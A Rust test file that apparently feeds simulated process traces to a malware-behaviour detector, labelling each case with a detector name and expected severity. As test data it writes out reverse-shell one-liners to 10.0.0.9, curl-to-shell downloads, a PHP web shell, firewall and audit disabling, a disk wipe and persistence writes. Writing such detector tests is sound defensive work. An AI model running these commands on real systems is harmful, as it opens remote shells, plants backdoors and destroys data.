//! How something gets in, rises, stays, hides and calls home.

use types::{Endpoint, Kind, StdioKind};

use super::Expect::{Malicious, Suspicious, Weak};
use super::{Row, runs, shell};
use crate::trace::{
    EACCES, ECONNREFUSED, ENOENT, ROOT, append, chmod, connect, dns, exec, inet, memory, open_new,
    random, read, region, socket, syscall, unlink, update, write,
};

const SOCKETS: fn() -> Vec<StdioKind> =
    || vec![StdioKind::Socket { peer: Some(inet("10.0.0.9", 4444)) }; 3];

pub(super) const SHELLS: &[Row] = &[
    ("shell-on-socket", Malicious, |t| {
        let child = t.fork(ROOT);
        t.event(child, connect("10.0.0.9", 4444));
        t.event(child, exec("/usr/bin/dash", &["sh", "-i"], SOCKETS()));
    }),
    ("shell-on-socket", Malicious, |t| {
        let python = t.spawn(ROOT, "/usr/bin/python3.13", &["python3", "x.py"]);
        t.event(python, connect("127.0.0.1", 4446));
        for stream in 0..3 {
            let peer = Some(inet("127.0.0.1", 4446));
            t.event(python, Kind::StdioSocket { stream, peer });
        }
        t.spawn(python, "/bin/sh", &["/bin/sh", "-i"]);
    }),
    ("shell-on-socket", Malicious, |t| {
        let bash = shell(t, "true");
        t.exec(bash, "/usr/bin/bash", &["bash"]);
        t.event(bash, connect("10.0.0.9", 4444));
        t.event(bash, Kind::StdioSocket { stream: 0, peer: None });
        t.event(bash, Kind::StdioSocket { stream: 1, peer: None });
    }),
    ("shell-for-network-client", Suspicious, |t| {
        let node = t.spawn(ROOT, "/usr/bin/node", &["node", "agent.js"]);
        t.event(node, connect("10.0.0.9", 4444)).ret = Some(-115);
        let child = t.fork(node);
        let pairs = vec![StdioKind::Socket { peer: None }; 3];
        t.event(child, exec("/usr/bin/dash", &["/bin/sh"], pairs));
    }),
    ("shell-for-network-client", Suspicious, |t| {
        let python = t.spawn(ROOT, "/usr/bin/python3.13", &["python3", "x.py"]);
        t.event(python, connect("10.0.0.9", 443));
        let child = t.fork(python);
        t.event(child, exec("/usr/bin/bash", &["bash", "-i"], vec![StdioKind::Pipe; 3]));
    }),
    ("command-loop", Suspicious, |t| {
        let python = t.spawn(ROOT, "/usr/bin/python3.13", &["python3", "x.py"]);
        for _ in 0..3 {
            t.event(python, connect("10.0.0.9", 8080));
            t.spawn(python, "/usr/bin/dash", &["/bin/sh", "-c", "id"]);
        }
    }),
    ("shell-behind-pipes", Malicious, |t| {
        let script = shell(t, "true");
        t.event(script, Kind::Mknod { path: "/data/p".into(), mode: 0o010_644 });
        let parts = t.pipeline(script, &["cat p", "sh -i", "nc 10.0.0.9 4444"]);
        t.event(parts[2], connect("10.0.0.9", 4444));
    }),
    ("shell-behind-pipes", Suspicious, |t| {
        let script = shell(t, "true");
        let parts = t.pipeline(script, &["cat p", "sh -i", "busybox nc 10.0.0.9 4444"]);
        t.failed(parts[2], connect("10.0.0.9", 4444), ECONNREFUSED);
    }),
    ("reverse-shell-command", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"]);
    }),
    ("reverse-shell-command", Suspicious, |t| {
        shell(t, "while true; do nc -e /bin/sh 10.0.0.9 4444; sleep 1; done");
    }),
    ("reverse-shell-command", Suspicious, |t| runs(t, "nc -e /bin/sh 10.0.0.9 4444")),
    ("reverse-shell-command", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/python3", &["python3", "-c",
            "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]);
    }),
];

/// A place that must not be written.
macro_rules! writes {
    ($detector:literal, $path:literal) => {
        ($detector, Suspicious, |t| {
            let script = shell(t, "true");
            t.failed(script, append($path), EACCES);
        })
    };
}

pub(super) const PERSISTENCE: &[Row] = &[
    ("repository-hook", Suspicious, |t| {
        t.event(ROOT, open_new("/home/a/work/.git/hooks/post-checkout"));
    }),
    writes!("cron-job", "/etc/cron.d/update"),
    writes!("cron-job", "/var/spool/cron/crontabs/sandbox"),
    ("cron-job", Suspicious, |t| runs(t, "crontab -")),
    writes!("at-job", "/var/spool/cron/atjobs/a0001"),
    ("at-job", Suspicious, |t| runs(t, "at now + 1 minute")),
    writes!("systemd-unit", "/etc/systemd/system/update.service"),
    writes!("systemd-unit", "/home/sandbox/.config/systemd/user/update.service"),
    writes!("systemd-timer", "/etc/systemd/system/update.timer"),
    writes!("shell-startup", "/home/sandbox/.bashrc"),
    writes!("shell-startup", "/etc/profile.d/update.sh"),
    writes!("authorized-keys", "/home/sandbox/.ssh/authorized_keys"),
    ("library-preload", Malicious, |t| t.failed(ROOT, open_new("/etc/ld.so.preload"), EACCES)),
    ("library-preload", Suspicious, |t| {
        let ld = t.command(ROOT, "ld -o /tmp/hook.so");
        t.writes(ld, "/tmp/hook.so", b"\x7fELF");
        shell(t, "LD_PRELOAD=/tmp/hook.so ls");
    }),
    writes!("desktop-autostart", "/home/sandbox/.config/autostart/update.desktop"),
    writes!("boot-script", "/etc/rc.local"),
    writes!("boot-script", "/etc/update-motd.d/99-x"),
    writes!("udev-rule", "/etc/udev/rules.d/99-x.rules"),
    writes!("login-configuration", "/etc/pam.d/sshd"),
    writes!("module-configuration", "/etc/modules-load.d/x.conf"),
    writes!("python-startup", "/usr/lib/python3/dist-packages/sitecustomize.py"),
    writes!("local-account", "/etc/passwd"),
    ("local-account", Suspicious, |t| runs(t, "useradd -m toor")),
    writes!("password-file", "/etc/shadow"),
    writes!("sudo-rule", "/etc/sudoers.d/all"),
    ("web-shell", Suspicious, |t| {
        t.event(ROOT, open_new("/var/www/html/x.php"));
        t.event(ROOT, write("/var/www/html/x.php", b"<?php system($_GET['c']); ?>"));
    }),
    writes!("root-certificate", "/usr/local/share/ca-certificates/x.crt"),
    writes!("name-resolution", "/etc/hosts"),
    writes!("installer-hook", "/etc/apt/apt.conf.d/99x"),
    writes!("boot-files", "/boot/grub/grub.cfg"),
    writes!("system-program", "/usr/bin/ls"),
    writes!("path-interception", "/home/sandbox/.local/bin/sudo"),
];

pub(super) const MEMORY: &[Row] = &[
    ("memory-file-exec", Malicious, |t| {
        t.event(ROOT, Kind::MemfdCreate { name: "".into() });
        let event = t.exec(ROOT, "/memfd:x", &["x"]);
        if let Kind::Exec { memfd, .. } = &mut event.kind {
            *memfd = true;
        }
    }),
    ("memory-file-exec", Malicious, |t| {
        t.event(ROOT, Kind::MemfdCreate { name: "".into() });
        let child = t.fork(ROOT);
        t.exec(child, "/proc/self/fd/3", &["x"]).ret = None;
    }),
    ("deleted-file-exec", Suspicious, |t| {
        let event = t.exec(ROOT, "/data/x (deleted)", &["x"]);
        if let Kind::Exec { deleted, .. } = &mut event.kind {
            *deleted = true;
        }
    }),
    ("code-in-memory", Malicious, |t| {
        let python = t.command(ROOT, "python3 x.py");
        t.event(python, memory(true));
        t.event(python, Kind::MemoryExecuted { address: 0x7000_0010, call: "write".to_owned() });
    }),
    // Compilers at run time do this as well: it is told, and suspects nobody.
    ("writable-code", Weak, |t| {
        t.event(ROOT, memory(true));
    }),
    ("memory-implant", Malicious, |t| {
        t.event(ROOT, region("injected_thread"));
    }),
    ("memory-implant", Suspicious, |t| {
        t.event(ROOT, memory(false));
        t.event(ROOT, region("image"));
    }),
    // By chance a compiler's code has this as well.
    ("memory-implant", Weak, |t| {
        let node = t.command(ROOT, "node x.js");
        t.event(node, region("direct_calls"));
    }),
    ("memory-implant", Weak, |t| {
        t.event(ROOT, region("executable_stack"));
    }),
    ("rewritten-text", Suspicious, |t| {
        t.event(ROOT, region("hollowed"));
    }),
    ("rewritten-text", Weak, |t| {
        t.event(ROOT, region("patched"));
    }),
    ("process-injection", Suspicious, |t| {
        t.refused(ROOT, Kind::Ptrace { request: 16, target_pid: 77 });
    }),
    ("process-injection", Malicious, |t| {
        t.refused(ROOT, Kind::ProcessMemory { write: true, target_pid: 77 });
    }),
    ("process-memory-write", Malicious, |t| t.failed(ROOT, update("/proc/77/mem"), EACCES)),
    ("debugger-evasion", Weak, |t| t.refused(ROOT, Kind::Ptrace { request: 0, target_pid: 0 })),
];

pub(super) const PRIVILEGE: &[Row] = &[
    ("setuid-bit", Suspicious, |t| {
        t.event(ROOT, chmod("/data/.rootsh", 0o4755));
    }),
    ("setuid-bit", Suspicious, |t| runs(t, "chmod u+s /data/x")),
    ("file-capability", Suspicious, |t| {
        let name = "security.capability".into();
        t.failed(ROOT, Kind::SetXattr { path: "/data/x".into(), name }, -1);
    }),
    ("become-root", Suspicious, |t| {
        t.failed(ROOT, Kind::SetIds { call: "setuid".to_owned(), ids: vec![0] }, -1);
    }),
    ("privileged-file-search", Suspicious, |t| runs(t, "find / -perm -4000 -type f")),
    ("sudo-probe", Weak, |t| runs(t, "sudo -n -l")),
    ("password-guessing", Suspicious, |t| {
        for _ in 0..6 {
            runs(t, "su root");
        }
    }),
    ("file-attributes", Suspicious, |t| runs(t, "chattr +i /etc/cron.d/x")),
];

pub(super) const TAMPERING: &[Row] = &[
    ("log-tampering", Suspicious, |t| t.failed(ROOT, unlink("/var/log/auth.log"), EACCES)),
    ("log-tampering", Suspicious, |t| {
        let script = shell(t, ": > /var/log/wtmp");
        t.failed(script, open_new("/var/log/wtmp"), EACCES);
    }),
    ("history-cleared", Suspicious, |t| {
        let rm = t.command(ROOT, "rm -f /home/sandbox/.bash_history");
        t.event(rm, unlink("/home/sandbox/.bash_history"));
    }),
    ("history-prevented", Suspicious, |t| {
        shell(t, "unset HISTFILE; ls");
    }),
    ("mailbox-cleared", Suspicious, |t| t.failed(ROOT, unlink("/var/mail/root"), EACCES)),
    ("timestomp", Suspicious, |t| {
        t.writes(ROOT, "/data/.sshd", b"#!/bin/sh\n");
        t.event(ROOT, Kind::SetTimes { path: "/data/.sshd".into(), seconds: 1_262_304_000 });
    }),
    ("self-deletion", Suspicious, |t| {
        t.event(ROOT, unlink("/data/sample"));
    }),
    ("security-tool-stopped", Suspicious, |t| runs(t, "systemctl stop auditd")),
    ("security-tool-stopped", Suspicious, |t| runs(t, "pkill -9 falco")),
    ("security-tool-stopped", Suspicious, |t| {
        t.failed(ROOT, open_new("/proc/sys/kernel/randomize_va_space"), EACCES);
    }),
    ("audit-disabled", Suspicious, |t| runs(t, "auditctl -D")),
    ("firewall-disabled", Suspicious, |t| runs(t, "iptables -F")),
    ("firewall-disabled", Suspicious, |t| runs(t, "ufw disable")),
];

pub(super) const KERNEL: &[Row] = &[
    ("namespace-escape", Suspicious, |t| t.refused(ROOT, syscall("chroot", &[]))),
    ("namespace-escape", Suspicious, |t| t.refused(ROOT, syscall("unshare", &[0x1000_0000]))),
    ("namespace-escape", Malicious, |t| {
        for call in ["mount", "setns", "pivot_root", "open_by_handle_at"] {
            t.refused(ROOT, syscall(call, &[]));
        }
    }),
    ("namespace-escape", Suspicious, |t| t.refused(ROOT, syscall("ioctl", &[0, 0x5412, 0]))),
    ("host-interface", Suspicious, |t| {
        t.failed(ROOT, open_new("/proc/sys/kernel/core_pattern"), EACCES);
    }),
    ("host-interface", Suspicious, |t| t.failed(ROOT, read("/proc/kcore"), EACCES)),
    ("device-node", Suspicious, |t| {
        t.failed(ROOT, Kind::Mknod { path: "/data/disk".into(), mode: 0o060_644 }, -1);
    }),
    ("container-engine", Suspicious, |t| {
        let peer = Endpoint::Unix { path: "/var/run/docker.sock".into(), abstract_name: false };
        t.failed(ROOT, Kind::Connect { peer }, ENOENT);
    }),
    ("kernel-surface", Suspicious, |t| t.refused(ROOT, syscall("bpf", &[0]))),
    ("kernel-surface", Suspicious, |t| t.refused(ROOT, syscall("io_uring_setup", &[4]))),
    ("kernel-surface", Suspicious, |t| t.refused(ROOT, syscall("keyctl", &[0]))),
    ("exotic-socket", Suspicious, |t| t.refused(ROOT, socket(38, 5))),
    ("module-load", Suspicious, |t| t.refused(ROOT, syscall("finit_module", &[3]))),
    ("raw-disk-read", Suspicious, |t| t.failed(ROOT, read("/dev/sda"), ENOENT)),
    ("disk-wipe", Suspicious, |t| {
        let dd = t.command(ROOT, "dd if=/dev/zero of=/dev/sda");
        t.failed(dd, open_new("/dev/sda"), ENOENT);
    }),
];

pub(super) const NETWORK: &[Row] = &[
    ("login-spread", Suspicious, |t| {
        for n in 1..5 {
            runs(t, &format!("ssh -o BatchMode=yes -o ConnectTimeout=1 root@10.0.0.{n} id"));
        }
    }),
    ("port-scan", Suspicious, |t| {
        for port in 1..40 {
            t.failed(ROOT, connect("127.0.0.1", port), ECONNREFUSED);
        }
    }),
    ("login-flood", Suspicious, |t| {
        for _ in 0..12 {
            t.failed(ROOT, connect("10.0.0.9", 22), ECONNREFUSED);
        }
    }),
    ("packet-capture", Suspicious, |t| t.refused(ROOT, socket(17, 3))),
    ("raw-socket", Suspicious, |t| t.refused(ROOT, socket(2, 3 | 0o2_000_000))),
    ("dns-tunnel", Suspicious, |t| {
        for n in 0..12_u32 {
            let data: String = random(n).iter().take(24).map(|b| format!("{b:02x}")).collect();
            t.event(ROOT, dns(&format!("{data}.t.example.com"), 16));
        }
    }),
    ("crypto-miner", Suspicious, |t| {
        t.exec(ROOT, "/data/m", &["m", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"]);
    }),
    ("crypto-miner", Suspicious, |t| {
        t.event(ROOT, Kind::SetName { name: "xmrig".into() });
        t.event(ROOT, connect("127.0.0.1", 3333));
    }),
    ("beacon", Suspicious, |t| {
        for _ in 0..6 {
            t.wait(2000);
            t.failed(ROOT, connect("10.0.0.9", 8443), -101);
        }
    }),
    ("backdoor-port", Weak, |t| t.failed(ROOT, connect("10.0.0.9", 31337), -101)),
    ("tunnel-tool", Suspicious, |t| runs(t, "ssh -N -R 8080:localhost:22 a@b")),
    ("anonymity-proxy", Suspicious, |t| t.failed(ROOT, connect("127.0.0.1", 9050), ECONNREFUSED)),
];

pub(super) const EXECUTION: &[Row] = &[
    ("decoded-program", Suspicious, |t| {
        let script = shell(t, "base64 -d a > b; sh b");
        let decoder = t.fork(script);
        t.event(decoder, open_new("/data/b"));
        t.exec(decoder, "/usr/bin/base64", &["base64", "-d", "a"]);
        t.spawn(script, "/usr/bin/dash", &["sh", "b"]);
    }),
    ("decoded-program", Suspicious, |t| {
        let openssl = t.command(ROOT, "openssl enc -d -base64 -in a -out /tmp/b");
        t.event(openssl, open_new("/tmp/b"));
        t.spawn(ROOT, "/tmp/b", &["/tmp/b"]);
    }),
    ("compiled-after-delivery", Suspicious, |t| {
        let curl = t.command(ROOT, "curl -s -o p.c http://10.0.0.9/p.c");
        t.event(curl, open_new("/data/p.c"));
        runs(t, "gcc -o p p.c");
    }),
    ("misleading-name", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/dash", &["sh", "./invoice.txt "]);
    }),
    ("misleading-name", Suspicious, |t| {
        t.spawn(ROOT, "/home/a/.../sh", &["/home/a/.../sh"]);
    }),
    ("download-execute", Suspicious, |t| {
        let curl = t.command(ROOT, "curl -o stage2 http://10.0.0.9/stage2");
        t.event(curl, connect("10.0.0.9", 80));
        t.writes(curl, "/data/stage2", b"#!/bin/sh\n");
        t.spawn(ROOT, "/data/stage2", &["./stage2"]);
    }),
    ("download-execute", Suspicious, |t| {
        let curl = t.command(ROOT, "curl -o ./stage2 http://10.0.0.9/stage2");
        t.failed(curl, connect("10.0.0.9", 80), -101);
        runs(t, "chmod +x ./stage2");
    }),
    ("download-to-shell", Suspicious, |t| {
        let script = shell(t, "true");
        let parts = t.pipeline(script, &["curl -s http://10.0.0.9/x", "sh"]);
        t.failed(parts[0], connect("10.0.0.9", 80), -101);
    }),
    ("download-to-shell", Suspicious, |t| {
        shell(t, "bash <(curl -s http://10.0.0.9/x)");
    }),
    ("decode-to-shell", Suspicious, |t| {
        let script = shell(t, "true");
        t.pipeline(script, &["base64 -d", "sh"]);
    }),
    ("obfuscated-command", Suspicious, |t| {
        shell(t, "echo aWQK | base64 -d | bash");
    }),
    ("obfuscated-command", Suspicious, |t| {
        t.spawn(
            ROOT,
            "/usr/bin/python3",
            &["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQ='))"],
        );
    }),
    ("dropped-program", Suspicious, |t| {
        let base64 = t.command(ROOT, "base64 -d");
        t.writes(base64, "/data/x", b"\x7fELF\x02\x01\x01");
        t.spawn(ROOT, "/data/x", &["./x"]);
    }),
    ("hidden-program", Suspicious, |t| {
        t.spawn(ROOT, "/tmp/.update", &["/tmp/.update"]);
    }),
    ("hidden-program", Suspicious, |t| {
        t.spawn(ROOT, "/dev/shm/x", &["/dev/shm/x"]);
    }),
    ("hidden-program", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/dash", &["/bin/sh", "/dev/shm/.x"]);
    }),
    ("false-program-name", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/dash", &["/bin/sh", "./sshd"]);
    }),
    ("false-file-type", Suspicious, |t| {
        t.spawn(ROOT, "/data/invoice.pdf.sh", &["./invoice.pdf.sh"]);
    }),
    ("false-task-name", Suspicious, |t| {
        t.exec(ROOT, "/data/sample", &["[kworker/0:1]"]);
    }),
    ("false-task-name", Suspicious, |t| {
        t.event(ROOT, Kind::SetName { name: "kworker/0:1".into() });
    }),
    ("false-program-name", Suspicious, |t| {
        t.spawn(ROOT, "/data/sshd", &["./sshd"]);
    }),
    ("renamed-utility", Suspicious, |t| {
        runs(t, "cp /bin/sh /data/update");
        t.spawn(ROOT, "/data/update", &["./update"]);
    }),
];
